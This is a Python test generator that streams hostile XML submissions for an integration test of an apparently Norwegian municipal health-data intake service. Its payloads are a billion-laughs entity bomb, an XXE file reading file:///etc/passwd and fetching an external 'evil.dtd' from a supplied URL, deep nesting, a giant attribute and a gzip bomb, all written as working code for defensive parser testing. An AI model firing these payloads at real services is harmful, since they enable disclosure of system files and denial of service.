#!/usr/bin/env python3
"""gen.py — hostile submission files for tests/integration/test_hostile.sh,
written streamed to stdout (nothing large is ever held in memory here).

  gen.py laughs  KOMMUNE           billion laughs (nested entities, DOCTYPE)
  gen.py xxe     KOMMUNE URL       external entity + external DTD naming URL
  gen.py deep    KOMMUNE DEPTH     DEPTH nested elements inside a Person
  gen.py bigattr KOMMUNE MIB       one attribute value of MIB mebibytes
  gen.py gzbomb  KOMMUNE GIB       gzip (multi-member) expanding to GIB gibibytes
  gen.py zeros   MIB               MIB mebibytes of junk (oversized bodies)

The output is the same on every call, except the Innsending id: made from
the kind of file, the municipality and $HOSTILE_RUN (the test's run number
on the stack, default 1), so each run's files are new to the stack
(idempotency answers 200 for a repeated id) and still reproducible.
"""
import os
import sys
import uuid
import zlib

MIB = 1 << 20


KIND = ""


def head(kommune, doctype=""):
    iid = uuid.uuid5(uuid.NAMESPACE_URL, "kpr-hostile:%s:%s:%s"
                     % (KIND, kommune, os.environ.get("HOSTILE_RUN", "1")))
    return (
        '<?xml version="1.0" encoding="UTF-8"?>\n%s'
        '<Innsending xmlns="urn:no:kpr:innsending:1" versjon="1.0" id="%s" '
        'opprettet="2026-01-07T14:35:12+01:00" aargang="2025">\n'
        '  <Avsender kommunenummer="%s" fagsystem="Hostile" fagsystemVersjon="1"/>\n'
        % (doctype, iid, kommune)
    )


PERSON = ('  <Person ref="H-1">\n    <Fnr>14893312014</Fnr>\n    <Kjonn>2</Kjonn>\n'
          '    <Fodselsaar>1933</Fodselsaar>\n  </Person>\n')


def out(s):
    sys.stdout.buffer.write(s.encode() if isinstance(s, str) else s)


def laughs(kommune):
    ents = '  <!ENTITY lol "lol">\n'
    for i in range(1, 10):
        prev = "lol" if i == 1 else "lol%d" % (i - 1)
        ents += '  <!ENTITY lol%d "%s">\n' % (i, ("&%s;" % prev) * 10)
    out(head(kommune, "<!DOCTYPE Innsending [\n%s]>\n" % ents))
    out(PERSON.replace("H-1", "&lol9;"))
    out("</Innsending>\n")


def xxe(kommune, url):
    dt = ('<!DOCTYPE Innsending SYSTEM "%s/evil.dtd" [\n'
          '  <!ENTITY %% remote SYSTEM "%s/param.dtd"> %%remote;\n'
          '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n'
          '  <!ENTITY web SYSTEM "%s/entity">\n]>\n') % (url, url, url)
    out(head(kommune, dt))
    out(PERSON.replace("H-1", "&xxe;&web;"))
    out("</Innsending>\n")


def deep(kommune, depth):
    out(head(kommune))
    out('  <Person ref="H-1">\n')
    chunk = 4096
    for i in range(0, depth, chunk):
        out("<Tjeneste>" * min(chunk, depth - i))
    for i in range(0, depth, chunk):
        out("</Tjeneste>" * min(chunk, depth - i))
    out("\n  </Person>\n</Innsending>\n")


def bigattr(kommune, mib):
    out(head(kommune))
    out('  <Person ref="')
    block = b"A" * MIB
    for _ in range(mib):
        out(block)
    out('">\n    <Fnr>14893312014</Fnr>\n  </Person>\n</Innsending>\n')


def gzbomb(kommune, gib):
    # gzip members concatenate: one member for the head, then the same
    # compressed 64 MiB of spaces again and again (about 64 KiB each)
    def member(data, times=1):
        c = zlib.compressobj(9, zlib.DEFLATED, 31)
        return c.compress(data * times) + c.flush()
    out(member(head(kommune).encode()))
    spaces = member(b" " * MIB, 64)
    for _ in range(gib * 16):
        out(spaces)
    out(member(PERSON.encode() + b"</Innsending>\n"))


def zeros(mib):
    block = b"<" * MIB
    for _ in range(mib):
        out(block)


def main(argv):
    global KIND
    what = KIND = argv[1] if len(argv) > 1 else ""
    if what == "laughs":
        laughs(argv[2])
    elif what == "xxe":
        xxe(argv[2], argv[3])
    elif what == "deep":
        deep(argv[2], int(argv[3]))
    elif what == "bigattr":
        bigattr(argv[2], int(argv[3]))
    elif what == "gzbomb":
        gzbomb(argv[2], int(argv[3]))
    elif what == "zeros":
        zeros(int(argv[2]))
    else:
        print(__doc__, file=sys.stderr)
        return 2
    return 0


if __name__ == "__main__":
    try:
        sys.exit(main(sys.argv))
    except BrokenPipeError:
        sys.exit(0)
